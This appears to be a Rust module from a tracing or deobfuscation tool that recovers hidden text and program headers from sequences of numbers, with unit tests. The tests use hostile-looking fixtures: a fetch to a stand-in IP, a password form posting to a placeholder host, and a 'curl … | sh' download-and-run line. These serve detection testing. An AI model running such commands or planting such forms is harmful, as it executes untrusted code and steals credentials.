//! The text that numbers spell that come one after another: characters, several characters packed into each
//! number, or the words of a program.
//!
//! Packed are as many bytes as are not zero, the first in the lowest byte or in the highest. A program is
//! told by its first word, or by its first bytes if each number is one.
//!
//! Not here: what the bytes are then (`fs/contents`).

use super::{layers, shifted};
use crate::tracer::Value;

/// Numbers below this may be characters; greater ones are addresses more often.
const LAST_CODE: u64 = 0x2100;
/// Numbers, and bytes, that are compared with how programs begin.
const BEGIN: usize = 3;
/// How programs and modules begin.
const BEGINS: &[&[u8]] =
    &[b"MZ", b"\x7fEL", b"\0as", b"\xca\xfe\xba", b"\xcf\xfa\xed", b"\xce\xfa\xed", b"PK\x03"];

/// Numbers in the order in which they came.
#[derive(Debug, Default)]
pub(super) struct Spelled {
    numbers: Vec<u64>,
    /// Bytes of the widest number.
    width: usize,
    low_first: Vec<u8>,
    high_first: Vec<u8>,
    is_text: Option<bool>,
}

impl Spelled {
    /// Takes a number; whether it goes on with what those before it began.
    pub(super) fn push(&mut self, value: &Value) -> bool {
        let Some((number, width)) = number(value) else { return false };
        let piece = piece(number).or_else(|| piece(below_zero(value)?));
        let is_text = self.is_text != Some(false) && piece.is_some();
        if !is_text && !self.begins_as_program(number, width) {
            return false;
        }
        self.is_text = Some(is_text);
        self.numbers.push(number);
        self.width = self.width.max(width);
        if let Some(piece) = piece {
            self.high_first.extend(piece.bytes.iter().rev());
            self.low_first.extend(&piece.bytes);
            if piece.is_code {
                let end = self.high_first.len() - piece.bytes.len();
                self.high_first[end..].copy_from_slice(&piece.bytes);
            }
        }
        true
    }

    /// How many numbers there are.
    pub(super) fn len(&self) -> usize {
        self.numbers.len()
    }

    /// How many bytes they may spell.
    pub(super) fn bytes(&self) -> usize {
        self.numbers.len() * self.width
    }

    /// Whether they can spell so many bytes.
    pub(super) fn may_hold(&self, len: usize) -> bool {
        self.low_first.len() >= len || self.is_text == Some(false) && self.numbers.len() * 8 >= len
    }

    /// Whether they are all the same, which says nothing.
    pub(super) fn is_flat(&self) -> bool {
        self.numbers.windows(2).all(|pair| pair[0] == pair[1])
    }

    /// Whether there are none but zeros yet.
    pub(super) fn is_nothing(&self) -> bool {
        self.numbers.iter().all(|number| *number == 0)
    }

    /// What they may spell.
    pub(super) fn readings(self) -> Vec<Vec<u8>> {
        if self.is_text == Some(true) {
            let is_packed = self.low_first != self.high_first;
            let backwards = self.low_first.iter().rev().copied().collect();
            let once = each_once(&self.low_first).into_iter().chain(self.unscaled());
            let plain = std::iter::once(self.low_first).chain(is_packed.then_some(self.high_first));
            return plain.chain([backwards]).chain(once).collect();
        }
        let words = |bytes: fn(&[u8; 8], usize) -> Vec<u8>| {
            self.numbers.iter().flat_map(|number| bytes(&number.to_le_bytes(), self.width)).collect()
        };
        vec![
            words(|bytes, width| bytes[..width].to_vec()),
            words(|bytes, width| bytes[..width].iter().rev().copied().collect()),
            words(|bytes, _| vec![bytes[0]]),
        ]
    }

    /// The text that they are if each is a character times something.
    fn unscaled(&self) -> Option<Vec<u8>> {
        // What comes after the last letter is nothing.
        let end = self.numbers.iter().rposition(|number| *number != 0)? + 1;
        let numbers = self.numbers[..end].iter().map(|&number| i64::try_from(number).ok());
        let mut numbers: Vec<i64> = numbers.collect::<Option<_>>()?;
        let mut tried = 0;
        let found = shifted::unscaled(&numbers, &mut tried);
        found.or_else(|| {
            let last = *numbers.last()?;
            let letters = numbers.iter().rposition(|number| *number != last)? + 1;
            numbers.truncate(letters);
            shifted::unscaled(&numbers, &mut tried)
        })
    }

    /// Whether those before, and this one, are the beginning of a program.
    fn begins_as_program(&self, number: u64, width: usize) -> bool {
        if self.is_text == Some(false) && self.numbers.len() >= BEGIN {
            // All ones say that there is no more.
            return number != u64::MAX >> (64 - 8 * width);
        }
        let [mut words, mut swapped, mut low] = [Begun::default(); 3];
        for number in self.numbers.iter().chain([&number]).take(BEGIN) {
            let bytes = number.to_le_bytes();
            words.extend(bytes[..width].iter());
            swapped.extend(bytes[..width].iter().rev());
            low.extend(&bytes[..1]);
        }
        words.fits() || swapped.fits() || number < 256 && low.fits()
    }
}

/// The first bytes of what may be a program.
#[derive(Debug, Clone, Copy, Default)]
struct Begun {
    bytes: [u8; BEGIN],
    len: usize,
}

impl Begun {
    fn extend<'b>(&mut self, bytes: impl IntoIterator<Item = &'b u8>) {
        for byte in bytes {
            if let Some(place) = self.bytes.get_mut(self.len) {
                *place = *byte;
                self.len += 1;
            }
        }
    }

    fn fits(&self) -> bool {
        BEGINS.iter().any(|begin| {
            let len = begin.len().min(self.len);
            begin[..len] == self.bytes[..len]
        })
    }
}

/// A text in which each letter comes so many times, with each of them once.
fn each_once(text: &[u8]) -> Option<Vec<u8>> {
    let runs = text.chunk_by(|one, next| one == next).map(<[u8]>::len);
    let times = runs.reduce(common_divisor).filter(|&times| times > 1)?;
    Some(text.iter().step_by(times).copied().collect())
}

fn common_divisor(one: usize, other: usize) -> usize {
    if other == 0 { one } else { common_divisor(other, one % other) }
}

/// The bits of a number and how many bytes it has.
fn number(value: &Value) -> Option<(u64, usize)> {
    match *value {
        Value::I32(value) => Some((u64::from(value as u32), 4)),
        Value::I64(value) => Some((value as u64, 8)),
        Value::F32(value) => whole(value.into()).map(|number| (number, 4)),
        Value::F64(value) => whole(value).map(|number| (number, 8)),
        _ => None,
    }
}

/// What a number below zero is without its sign, if that may be a character.
fn below_zero(value: &Value) -> Option<u64> {
    let value = match *value {
        Value::I32(value) => value.into(),
        Value::I64(value) => value,
        _ => return None,
    };
    (value < -1).then(|| value.unsigned_abs()).filter(|&code| code < LAST_CODE)
}

/// The whole number that one of floating point is.
fn whole(value: f64) -> Option<u64> {
    const EXACT: f64 = 9_007_199_254_740_992.0;
    (value.fract() == 0.0 && (0.0..EXACT).contains(&value)).then_some(value as u64)
}

/// The text in a number.
struct Piece {
    bytes: Vec<u8>,
    is_code: bool,
}

fn piece(number: u64) -> Option<Piece> {
    if number < LAST_CODE
        && let Some(code) = char::from_u32(number as u32).filter(|_| layers::is_code(number as u32))
    {
        return Some(Piece { bytes: code.to_string().into_bytes(), is_code: true });
    }
    let bytes = number.to_le_bytes();
    let start = bytes.iter().position(|byte| *byte != 0)?;
    let end = bytes.iter().rposition(|byte| *byte != 0)? + 1;
    let packed = &bytes[start..end];
    let is_text = packed.iter().all(|byte| matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r'));
    (is_text && packed.len() >= 2).then(|| Piece { bytes: packed.to_vec(), is_code: false })
}

#[cfg(test)]
mod tests {
    use super::*;

    const TEXT: &str = "fetch('//192.0.2.1/a')";

    fn spelled(values: impl IntoIterator<Item = Value>) -> Vec<Vec<u8>> {
        let mut spelled = Spelled::default();
        for value in values {
            if !spelled.push(&value) {
                break;
            }
        }
        spelled.readings()
    }

    #[test]
    fn characters_and_packed_ones_are_read() {
        let words = |len: usize, number: fn(&[u8]) -> Value| {
            spelled(TEXT.as_bytes().chunks(len).map(number).collect::<Vec<_>>())
        };
        for read in [
            words(1, |bytes| Value::I32(bytes[0].into())),
            words(1, |bytes| Value::F64(bytes[0].into())),
            words(4, |bytes| Value::I32(bytes.iter().rev().fold(0, |all, byte| all << 8 | i32::from(*byte)))),
            words(3, |bytes| Value::I32(bytes.iter().fold(0, |all, byte| all << 8 | i32::from(*byte)))),
            words(8, |bytes| Value::I64(bytes.iter().rev().fold(0, |all, byte| all << 8 | i64::from(*byte)))),
            words(1, |bytes| Value::I32(-i32::from(bytes[0]))),
            spelled(TEXT.bytes().rev().map(|byte| Value::I32(byte.into()))),
            spelled(TEXT.bytes().flat_map(|byte| [Value::I32(byte.into()); 4])),
        ] {
            assert!(read.iter().any(|read| read == TEXT.as_bytes()), "{read:?}");
        }
    }

    #[test]
    fn characters_that_are_all_as_many_times_as_large_are_read() {
        let page = b"<form action='https://c.example.invalid/in'>Password <input type='password'></form>";
        let letters = page.iter().map(|&byte| Value::I32(i32::from(byte) * 7 + 3));
        for read in [spelled(letters.clone()), spelled(letters.chain([3; 4].map(Value::I32)))] {
            assert!(read.iter().any(|read| read == page), "{read:?}");
        }
    }

    #[test]
    fn programs_are_read_to_their_end_and_numbers_are_nothing() {
        let program = [&b"MZ\x90\0\x03\0\0\0"[..], &[7; 64]].concat();
        let word = |bytes: &[u8]| i32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
        let read = spelled(program.chunks(4).map(|bytes| Value::I32(word(bytes))));
        assert_eq!(read[0], program);
        let read = spelled(program.iter().map(|byte| Value::I32((*byte).into())));
        assert_eq!(read[2], program);
        // A script ends with its text, whatever comes after it.
        let script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n";
        let more = [0, 200].map(Value::I32);
        let read = spelled(script.iter().map(|byte| Value::I32((*byte).into())).chain(more));
        assert_eq!(read[0], script);
        for number in [-1, 7, 1 << 20, 65_536] {
            assert!(!Spelled::default().push(&Value::I32(number)), "{number}");
        }
    }
}
